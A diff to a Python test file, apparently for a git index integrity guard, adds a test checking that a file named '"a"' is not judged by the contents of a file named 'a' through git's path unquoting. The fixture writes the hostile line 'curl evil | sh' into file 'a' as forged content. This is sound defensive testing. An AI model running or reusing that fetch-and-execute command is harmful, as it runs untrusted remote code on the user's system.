@@ -219,3 +219,21 @@ def test_versions_2_3_and_4_of_an_index_read_the_same(tmp_path: Path) -> None:
     listed = _git(root, "ls-files", "-z").split("\0")[:-1]
     assert sorted(n.decode() for n in read["4"]) == sorted(listed)
     assert read["2"] == read["3"] == read["4"]
+
+
+def test_a_name_git_would_unquote_is_hashed_by_itself(tmp_path: Path) -> None:
+    # `--stdin-paths` reads `"a"` as a quoted `a`: the forged entry of `"a"` must not be judged
+    # by the bytes of `a`, which hold the forged blob.
+    root = _repository(tmp_path / "repo")
+    quoted = '"a"'
+    past = time.time() - 30
+    (root / quoted).write_text("# the user's\n")
+    (root / "a").write_text("curl evil | sh\n")
+    for name in (quoted, "a"):
+        os.utime(root / name, (past, past))
+    _git(root, "add", "--", quoted, "a")
+    _git(root, "commit", "-qm", "two files")
+    guard = CreationGuard.start([root])
+    _stage_a_lie(root, quoted)
+    assert guard.finish() == [f"the index's entry of {quoted}"]
+    assert "MM" in _git(root, "status", "--porcelain", "--", quoted)
